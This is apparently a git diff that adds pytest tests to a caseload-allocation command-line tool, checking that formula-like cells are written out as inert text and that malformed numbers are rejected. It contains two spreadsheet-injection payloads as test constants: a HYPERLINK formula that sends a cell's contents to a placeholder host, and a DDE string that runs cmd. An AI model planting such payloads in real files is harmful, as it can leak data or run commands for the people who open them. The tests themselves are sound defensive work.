@@ -16,7 +16,7 @@ import pytest
 
 from caseload.cli import main
 from caseload_engine import complexity, tabular
-from caseload_engine.tabular import MAX_COLUMNS, MAX_ROWS
+from caseload_engine.tabular import MAX_COLUMNS, MAX_ROWS, read_table
 
 FACTORS = [factor.name for factor in complexity.default_model().factors]
 PRACTITIONERS = "practitioner_id,team,role\nP1,North,social_worker\n"
@@ -267,3 +267,120 @@ def _sparse(path: Path, size: int) -> Path:
     with path.open("wb") as file:
         file.truncate(size)  # takes no disk space: only the size is looked at
     return path
+
+
+# -- odd files that are read as a spreadsheet reads them ----------------------------------------
+
+ATTACK = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
+DDE = "-2+3+cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize("out", ["out.csv", "out.xlsx"])
+def test_tier_writes_formulas_it_was_given_as_text_that_never_runs(
+    tmp_path: Path, out: str
+) -> None:
+    tier = COMMANDS[0]
+    source = _csv(
+        tmp_path / "in.csv",
+        ["Person", *tier.header, "@Notes"],
+        [ATTACK.replace(",", ";"), *tier.row, DDE],
+        ["-12", *tier.row, "+44 20 7946 0000"],
+    )
+    assert main(["tier", str(source), "--out", str(tmp_path / out)]) == 0
+    if out.endswith(".csv"):
+        written = read_table(tmp_path / out)
+        assert written.columns[-4:] == ("'@Notes", "total", "tier", "points")
+        first, second = (list(row.values.values()) for row in written.rows)
+        assert (first[0], first[7]) == ("'" + ATTACK.replace(",", ";"), "'" + DDE)
+        # A negative number stays one; a telephone number is not a sum.
+        assert (second[0], second[7]) == ("-12", "'+44 20 7946 0000")
+    else:
+        sheet = openpyxl.load_workbook(tmp_path / out).worksheets[0]
+        cells = [sheet["A2"], sheet["H2"], sheet["H1"]]
+        assert [(cell.value, cell.data_type) for cell in cells] == [
+            (ATTACK.replace(",", ";"), "s"),
+            (DDE, "s"),
+            ("@Notes", "s"),
+        ]
+
+
+def test_allocate_writes_case_ids_that_look_like_formulas_as_text(tmp_path: Path) -> None:
+    source = _csv(
+        tmp_path / "in.csv",
+        ["case_id", "team", "tier"],
+        ["=1+1", "North", "1"],
+        [DDE, "North", "1"],
+    )
+    assert COMMANDS[1].run(tmp_path, source) == 0
+    proposal = read_table(tmp_path / "out.csv")
+    assert [row.values["case_id"] for row in proposal.rows] == ["'=1+1", "'" + DDE]
+
+
+@pytest.mark.parametrize("command", COMMANDS, ids=lambda command: command.name)
+def test_excels_byte_order_mark_and_a_header_only_file(
+    tmp_path: Path, command: Command, capsys: pytest.CaptureFixture[str]
+) -> None:
+    source = _write(tmp_path / "in.csv", (",".join(command.header) + "\n").encode("utf-8-sig"))
+    # Nothing to do is not an error: the output is the header alone.
+    assert command.run(tmp_path, source) == 0
+    assert read_table(tmp_path / "out.csv").rows == ()
+    assert capsys.readouterr().err == ""
+
+
+def test_a_formula_saved_with_its_value_is_read_as_the_value(tmp_path: Path) -> None:
+    cells = '<c r="A2"><f>1+1</f><v>2</v></c><c r="B2" t="str"><f>""</f><v></v></c>'
+    source = _workbook(tmp_path / "in.xlsx", _data_row(cells), ["Risk", "Notes"])
+    assert [dict(row.values) for row in read_table(source).rows] == [{"Risk": "2", "Notes": ""}]
+
+
+@pytest.mark.parametrize(
+    ("column", "value", "message"),
+    [
+        (
+            "capacity_points",
+            "1e18",
+            "capacity_points must be a number of 0 or more, at most "
+            "10,000, with at most one decimal place, not '1e18'",
+        ),
+        (
+            "capacity_points",
+            "1e99999999",
+            "capacity_points must be a number of 0 or more, at "
+            "most 10,000, with at most one decimal place, not '1e99999999'",
+        ),
+        (
+            "current_points",
+            "-1e99999999",
+            "current_points must be a number of 0 or more, at "
+            "most 10,000, with at most one decimal place, not '-1e99999999'",
+        ),
+        # Arabic-Indic digits, which Python's Decimal reads as 0.5.
+        ("fte", "\u0660.\u0665", "fte must be a number above 0 and at most 1, not '\u0660.\u0665'"),
+    ],
+)
+def test_allocate_refuses_numbers_it_cannot_compute_with(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], column: str, value: str, message: str
+) -> None:
+    staff = tmp_path / "staff.csv"
+    _csv(
+        staff, ["practitioner_id", "team", "role", column], ["P1", "North", "social_worker", value]
+    )
+    cases = _csv(tmp_path / "cases.csv", ["case_id", "team", "tier"], ["C1", "North", "1"])
+    arguments = ["--cases", str(cases), "--practitioners", str(staff), "--out", "out.csv"]
+    assert main(["allocate", *arguments]) == 2
+    assert capsys.readouterr().err.splitlines() == [
+        f'{staff}: row 2, column "{column}": {message}',
+        "1 problem; nothing written.",
+    ]
+
+
+@pytest.mark.parametrize("tier", ["²", "1e99999999", "9" * 5000])
+def test_allocate_refuses_tiers_that_are_not_plain_digits(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], tier: str
+) -> None:
+    source = _csv(tmp_path / "in.csv", ["case_id", "team", "tier"], ["C1", "North", tier])
+    assert COMMANDS[1].run(tmp_path, source) == 2
+    assert capsys.readouterr().err.splitlines()[0] == (
+        f'{source}: row 2, column "tier": tier must be one of 1, 2, 3, not {tier!r}'
+    )
+    assert not (tmp_path / "out.csv").exists()
